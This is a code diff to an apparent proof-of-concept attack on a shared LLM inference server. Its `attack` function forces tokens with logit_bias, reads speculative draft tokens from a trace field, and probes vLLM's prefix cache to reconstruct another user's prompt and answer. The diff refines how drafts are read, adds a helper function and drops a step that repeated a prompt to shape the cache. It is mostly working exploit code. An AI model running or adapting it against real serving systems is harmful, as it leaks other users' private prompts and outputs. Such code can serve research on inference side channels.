@@ -18,7 +18,6 @@ READ = 24
 _NOTES = " ".join(f"Row {number}: river {number * 7}, {number * 31} km." for number in range(30))
 SECRET = f"<|user|>{_NOTES} Now list 9 animals, then 7 cities.<|end|><|assistant|>"
 """Half of it fills a block of vLLM's prefix cache, which has 128 tokens on a CPU."""
-AGAIN = "<|user|>Count to 30.<|end|><|assistant|>"
 Call = Callable[[str, Mapping[str, Any]], list[dict[str, Any]]]
 """(key, fields) → the chunks of a stream."""
 
@@ -89,26 +88,30 @@ def attack(call: Call, key: str, answer: Sequence[int], **fields: Any) -> Seen:
     """Reads on from the first tokens of an answer, and guesses its prompt; returns all it saw."""
     words, seen = list(answer[:KNOWN]), Seen([], [], [], [])
     while len(words) < KNOWN + READ:
-        # What is read is drafted and, as the output is forced, refused: from that lookups learn to
-        # distrust past outputs, which an answer that comes again makes good.
-        for _ in range(2):
-            ask(call, key, prompt=AGAIN, max_tokens=40, temperature=0, **fields)
-        # The last known token is forced, so that a draft continues the known ones.
+        # The last known token is forced, so that a draft continues the known ones. The prompt does
+        # not have it, and where the draft comes back to the prompt it is not read on: there the
+        # request's own text would be looked up as well.
+        back = 0
+        while back < 3 and words[-1 - back] == words[-2 - back]:
+            back += 1  # nothing between them: the draft after the first of equal tokens is read
+        known = words[: len(words) - back]
+        prompt = before(known[-KNOWN:-1], known[-1]) or known[-2:-1]
         chunks = ask(
             call,
             key,
-            prompt=words[-KNOWN:-1],
-            logit_bias={str(words[-1]): 100},
+            prompt=prompt,
+            logit_bias={str(known[-1]): 100},
             max_tokens=6,
             temperature=0,
             spindle={"trace": True},
             **fields,
         )
         note(seen, chunks)
-        drafts = drafts_after_first(chunks)
+        drafts = drafts_after_first(chunks)[back:]
         if not drafts:
             break
-        words += drafts
+        known_again = [place for place, token in enumerate(drafts) if token in prompt]
+        words += drafts[: known_again[0] + 1] if known_again else drafts
     # Without a trace: is this in another's answer?
     for length in (KNOWN, KNOWN + READ // 2):
         prompt = list(answer[:length])
@@ -119,6 +122,12 @@ def attack(call: Call, key: str, answer: Sequence[int], **fields: Any) -> Seen:
         note(seen, ask(call, key, prompt=guess, max_tokens=1, **fields))
     seen.words.extend(words[KNOWN:])
     return seen
+
+
+def before(known: Sequence[int], forced: int) -> list[int]:
+    """The end of the known tokens that does not have the forced one."""
+    places = [place for place, token in enumerate(known) if token == forced]
+    return list(known[places[-1] + 1 :] if places else known)
 
 
 def note(seen: Seen, chunks: Sequence[Mapping[str, Any]]) -> None:
